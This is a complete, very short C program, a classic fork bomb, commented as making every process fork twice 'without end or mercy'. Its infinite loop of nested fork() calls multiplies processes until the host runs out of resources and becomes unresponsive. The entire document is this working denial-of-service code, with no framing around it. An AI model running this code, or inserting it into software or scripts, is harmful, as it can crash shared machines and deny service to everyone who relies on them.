// Doubles: every process forks twice, without end or mercy.
#include <unistd.h>

int main() {
    for (;;)
        if (fork() == 0) fork();
}
